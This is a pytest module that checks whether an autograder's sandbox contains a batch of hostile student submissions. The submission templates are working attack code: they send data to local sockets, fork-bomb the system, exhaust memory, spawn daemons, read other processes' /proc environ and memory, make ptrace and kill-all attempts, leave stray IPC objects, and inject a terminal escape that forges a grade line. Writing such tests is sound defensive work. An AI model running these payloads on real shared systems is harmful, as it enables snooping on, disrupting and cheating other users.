"""Issue 11's hostile corpus, graded in one batch beside honest neighbours, as root and as a normal user.

Each hostile submission is the reference solution with one exercise file replaced by an attack on the
process side of the sandbox (the numbered lines of issue 11 it answers are in its name's comment). An
attack that works returns the right answer (its score rises); one that fails returns zeros or hangs.
The batch runs as ``python -m autograder grade --jobs 2`` in a process of its own with a private temp
folder and a marker in its environment, once as this user and, when the tests run as root (as CI
does), once more as an unused uid (``setpriv``). Then: every student has a row, no hostile exercise
scores above its honest content, every neighbour keeps all its marks, nothing reached the listeners on
127.0.0.1 or the Unix socket, no process of the batch is left, and no staged file is.
"""

from __future__ import annotations

import csv
import ctypes
import json
import os
import shutil
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

import pytest
from test_sandbox import Listeners, as_user, users

from autograder.manifest import EXERCISES, SOLUTIONS_DIR

REPO = Path(__file__).resolve().parent.parent
MEMORY_MB = 600

ZEROS = """
import torch


def softmax_with_temperature(logits, temperature=1.0, dim=-1):
    if WORKED:
        return torch.softmax(logits / temperature, dim)
    return torch.zeros_like(logits)
"""

UDP_AND_UNIX = """
import socket

WORKED = False
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {udp})),
    (socket.AF_UNIX, socket.SOCK_STREAM, {unix!r}),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + {abstract!r}),
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp})),
):
    try:
        sock = socket.socket(family, kind)
        sock.settimeout(1)
        if kind == socket.SOCK_DGRAM:
            sock.sendto(b"secrets", address)
        else:
            sock.connect(address)
            sock.sendall(b"secrets")
        WORKED = True
    except OSError:
        pass
"""
HOLDS_62_CHILDREN = """
import ctypes, os, time

WORKED = False
for _ in range(62):
    try:
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"{marker}", 0, 0, 0)
            time.sleep(1000)
            os._exit(0)
        WORKED = True
    except OSError:
        break
"""
MEMORY_THROUGH_CHILDREN = """
import os, threading, time

CHUNK = int({memory_mb} * 0.8) << 20
held = []


def hold():
    try:
        held.append(bytearray(CHUNK))
    except MemoryError:
        pass


threads = [threading.Thread(target=hold) for _ in range(3)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
WORKED = len(held) * 0.8 > 1
ready = []
for _ in range(3):
    try:
        read, write = os.pipe()
        if os.fork() == 0:
            block = bytearray(CHUNK)
            os.write(write, b"1")
            time.sleep(30)
            os._exit(0)
        ready.append(read)
    except OSError:
        break
WORKED = WORKED or sum(len(os.read(r, 1)) for r in ready) * 0.8 > 1
"""
STARTS_DAEMONS = """
import ctypes, os, time

WORKED = False
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"{marker}", 0, 0, 0)
            time.sleep(1000)
        os._exit(0)
except OSError:
    pass
"""
READS_PROC_AND_SIGNALS_EVERYONE = """
import ctypes, os, signal, sys

WORKED = b"honest_threads" in " ".join(sys.argv + getattr(sys, "orig_argv", [])).encode()
for entry in os.listdir("/proc"):
    if entry.isdigit():
        for name in ("cmdline", "environ", "mem"):
            try:
                with open(f"/proc/{{entry}}/{{name}}", "rb") as handle:
                    seen = handle.read(1 << 20)
                WORKED = WORKED or b"honest_threads" in seen or b"{marker}" in seen
            except OSError:
                pass
        if int(entry) != os.getpid() and ctypes.CDLL(None, use_errno=True).ptrace(16, int(entry), 0, 0) == 0:
            WORKED = True
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""
# System V shared memory, a semaphore set, a message queue and a POSIX message queue, none removed: they
# would outlive the batch (and be a channel to a classmate) in the machine's IPC namespace.
LEAVES_IPC_OBJECTS = """
import ctypes, os

WORKED = False
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget(ctypes.c_int({ipc_key}), ctypes.c_size_t(1 << 20), 0o1666)
_libc.semget(ctypes.c_int({ipc_key}), 1, 0o1666)
_libc.msgget(ctypes.c_int({ipc_key}), 0o1666)
_libc.mq_open(b"/{marker}", os.O_CREAT | os.O_RDWR, 0o666, None)
"""
# Raises (when the graders' call tests WORKED) with a lone surrogate, which no UTF-8 writer takes, and an
# escape sequence that clears the instructor's terminal line and writes a forged one over it.
WRITES_TO_THE_TERMINAL = """
class _Raises:
    def __bool__(self):
        raise ValueError("bad \\udcff text \\x1b[2K\\rgraded mallory: 100/100")


WORKED = _Raises()
"""
# name -> (the file replaced, its text), and the numbered line of issue 11 it answers.
ATTACKS: dict[str, tuple[str, str]] = {
    "sends_udp_and_unix": ("ex1_softmax.py", UDP_AND_UNIX),  # 3
    "holds_62_children": ("ex1_softmax.py", HOLDS_62_CHILDREN),  # 4
    "memory_through_children": ("ex1_softmax.py", MEMORY_THROUGH_CHILDREN),  # 4
    "starts_daemons": ("ex1_softmax.py", STARTS_DAEMONS),  # 5
    # 9, and what held before: signals, ptrace and /proc/PID/mem against everyone else.
    "reads_proc_and_signals_everyone": ("ex1_softmax.py", READS_PROC_AND_SIGNALS_EVERYONE),
    # Found by a red team after the issue: objects that outlive their maker; text that breaks writers.
    "leaves_ipc_objects": ("ex1_softmax.py", LEAVES_IPC_OBJECTS),
    "writes_to_the_terminal": ("ex1_softmax.py", WRITES_TO_THE_TERMINAL),
}
# 7: the late pass (the transformers check) hangs for this one; 8: this one is killed at its limit.
SOLUTION_EX3 = (SOLUTIONS_DIR / "ex3_layers.py").read_text()
STALLS_THE_LATE_PASS = SOLUTION_EX3 + (
    "\n\n_halve_layers = halve_layers\n\n\n"
    "def halve_layers(teacher, layers=None):\n"
    "    while type(teacher).__module__.startswith('transformers'):\n"
    "        pass\n"
    "    return _halve_layers(teacher, layers)\n"
)
SLOW_EX2 = (SOLUTIONS_DIR / "ex2_distillation.py").read_text() + (
    "\n\nimport functools as _functools\nimport time as _time\n\n\n"
    "def _slow(function):\n"
    "    @_functools.wraps(function)\n"
    "    def slow(*args, **kwargs):\n"
    "        _time.sleep(15)\n"
    "        return function(*args, **kwargs)\n\n"
    "    return slow\n\n\n"
    "distillation_loss = _slow(distillation_loss)\n"
)
SOLUTION_EX1 = (SOLUTIONS_DIR / "ex1_softmax.py").read_text()
THREADED_EX1 = SOLUTION_EX1 + (
    "\n\nimport threading as _threading\n\n_softmax = softmax_with_temperature\n\n\n"
    "def softmax_with_temperature(logits, temperature=1.0, dim=-1):\n"
    "    box = {}\n\n"
    "    def work():\n"
    "        try:\n"
    "            box['value'] = _softmax(logits, temperature, dim)\n"
    "        except BaseException as exc:\n"
    "            box['error'] = exc\n\n"
    "    threads = [_threading.Thread(target=work) for _ in range(4)]\n"
    "    for thread in threads:\n"
    "        thread.start()\n"
    "    for thread in threads:\n"
    "        thread.join()\n"
    "    if 'error' in box:\n"
    "        raise box['error']\n"
    "    return box['value']\n"
)
NEIGHBOURS = {"honest_solution": {}, "honest_threads": {"ex1_softmax.py": THREADED_EX1}}
HONEST_ZEROS = "honest_zeros"


def _write(folder: Path, replaced: dict[str, str]) -> Path:
    folder.mkdir(parents=True)
    for exercise in EXERCISES:
        shutil.copyfile(SOLUTIONS_DIR / exercise.filename, folder / exercise.filename)
    for filename, text in replaced.items():
        (folder / filename).write_text(text)
    return folder


def _processes_with(marker: str) -> list[int]:
    """Live processes whose name or environment holds ``marker``."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/stat") as stat:
                if stat.read().rsplit(")", 1)[1].split()[0] in ("Z", "X"):
                    continue
            names = Path(f"/proc/{entry}/comm").read_bytes() + Path(f"/proc/{entry}/environ").read_bytes()
        except OSError:
            continue
        if marker.encode() in names:
            found.append(int(entry))
    return found


def _ipc_left(key: int, marker: str) -> list[str]:
    """The System V IPC objects with ``key`` and the POSIX message queue named ``marker`` that exist in
    this process's (the machine's) IPC namespace."""
    left = []
    for kind in ("shm", "sem", "msg"):
        with open(f"/proc/sysvipc/{kind}") as table:
            keys = [line.split()[0] for line in table.read().splitlines()[1:] if line.split()]
        left += [kind for found in keys if int(found) == key]
    libc = ctypes.CDLL(None, use_errno=True)
    queue = libc.mq_open(f"/{marker}".encode(), os.O_RDONLY)
    if queue >= 0:
        left.append("mqueue")
        libc.mq_close(queue)
        libc.mq_unlink(f"/{marker}".encode())
    return left


def _grade_class(user: str, root: Path) -> dict:
    """Write the class and grade it in one batch as ``user``; what the tests below look at."""
    marker = f"agmark{os.getpid() % 100000}{user}"
    listeners = Listeners(root)
    try:
        ports = dict(zip(("tcp", "udp"), (int(p) for p in listeners.ports), strict=False))
        values = {**ports, "unix": listeners.unix_path, "abstract": listeners.abstract_name}
        ipc_key = zlib.crc32(marker.encode()) & 0x7FFFFFFF
        values.update(marker=marker, memory_mb=MEMORY_MB, ipc_key=ipc_key)
        paths = []
        for name, (filename, text) in ATTACKS.items():
            paths.append(_write(root / "class" / name, {filename: text.format(**values) + ZEROS}))
        paths.append(_write(root / "class" / "stalls_the_late_pass", {"ex3_layers.py": STALLS_THE_LATE_PASS}))
        paths.append(_write(root / "class" / "killed_at_its_limit", {"ex2_distillation.py": SLOW_EX2}))
        paths.append(_write(root / "class" / HONEST_ZEROS, {"ex1_softmax.py": "WORKED = False\n" + ZEROS}))
        for name, replaced in NEIGHBOURS.items():
            paths.append(_write(root / "class" / name, replaced))
        temp, out = root / "tmp", root / "out"
        temp.mkdir()
        out.mkdir()
        for path in [root, *root.rglob("*")]:
            path.chmod(0o777 if path.is_dir() else 0o666)
        env = {**os.environ, "PYTHONPATH": str(REPO), "TMPDIR": str(temp), "AG_TEST_MARKER": marker}
        command = [sys.executable, "-m", "autograder", "grade", *map(str, paths), "--out", str(out)]
        command += ["--jobs", "2", "--timeout", "20", "--submission-timeout", "60"]
        command += ["--memory-mb", str(MEMORY_MB), "--force"]
        done = subprocess.run(
            as_user(user, command), check=False, capture_output=True, text=True, env=env, cwd="/", timeout=600
        )
        received = listeners.received()
    finally:
        listeners.close()
    with open(out / "grades.csv", newline="") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    results = {path.stem: json.loads(path.read_text()) for path in (out / "results").glob("*.json")}
    return {
        "exit_code": done.returncode,
        "stderr": done.stderr,
        "stdout": done.stdout,
        "ipc_left": _ipc_left(ipc_key, marker),
        "rows": rows,
        "results": results,
        "received": received,
        "alive": _processes_with(marker),
        # The engine's own folders (ag-batch-*, ag-grade-*, ag-intake-*), not torch's caches.
        "left_in_temp": sorted(str(p.relative_to(temp)) for p in temp.rglob("ag-*")),
    }


@pytest.fixture(scope="module", params=users())
def graded(request):
    root = Path(tempfile.mkdtemp(prefix="ag-hostile-"))
    try:
        yield _grade_class(request.param, root)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _exercise_scores(graded: dict, student: str) -> dict[str, float]:
    return {ex: float(score) for ex, score in graded["results"][student]["extra_data"]["exercises"].items()}


def test_the_batch_completes_with_a_row_for_everyone(graded):
    expected = {*ATTACKS, "stalls_the_late_pass", "killed_at_its_limit", HONEST_ZEROS, *NEIGHBOURS}
    assert set(graded["rows"]) == expected, graded["stderr"][-3000:]
    assert graded["exit_code"] == 1, graded["stderr"][-3000:]  # 1: the row stopped at its limit
    assert graded["rows"]["killed_at_its_limit"]["note"] and not graded["rows"]["honest_solution"]["note"]
    assert "sandbox: " in graded["stderr"]


def test_no_attack_scores_above_its_honest_content(graded):
    honest = _exercise_scores(graded, HONEST_ZEROS)
    assert honest["ex1"] < 20  # the attacks' ex1 returns zeros: a score above this means one worked
    for name in ATTACKS:
        scores = _exercise_scores(graded, name)
        assert scores["ex1"] <= honest["ex1"], name
        assert all(scores[ex] == 20 for ex in ("ex2", "ex3", "ex4", "ex5")), (name, scores)
    stalled = _exercise_scores(graded, "stalls_the_late_pass")
    assert stalled["ex3"] < 20 and all(stalled[ex] == 20 for ex in ("ex1", "ex2", "ex4", "ex5")), stalled


def test_every_neighbour_keeps_its_marks(graded):
    for name in NEIGHBOURS:
        assert graded["results"][name]["score"] == 100, [
            t["output"] for t in graded["results"][name]["tests"] if t["status"] != "passed"
        ][:3]


def test_the_submission_over_its_limit_is_stopped_and_keeps_a_row(graded):
    result = graded["results"]["killed_at_its_limit"]
    assert "stopped after 60 s" in (result["extra_data"]["error"] or ""), result["extra_data"]


def test_nothing_reaches_the_listeners(graded):
    assert graded["received"] == []


def test_no_process_of_the_batch_survives_it(graded):
    assert graded["alive"] == []


def test_no_staged_file_stays(graded):
    assert graded["left_in_temp"] == []


def test_no_ipc_object_outlives_the_batch(graded):
    assert graded["ipc_left"] == []


def test_what_a_submission_wrote_reaches_the_terminal_escaped(graded):
    """Its lone surrogate crashed no writer (every row is there, see above) and came out as U+FFFD; no
    escape sequence reached the terminal."""
    assert "\x1b" not in graded["stdout"] and "\x1b" not in graded["stderr"]
    outputs = [test["output"] for test in graded["results"]["writes_to_the_terminal"]["tests"]]
    assert any("bad \ufffd\ufffd\ufffd text" in output for output in outputs), outputs[:3]
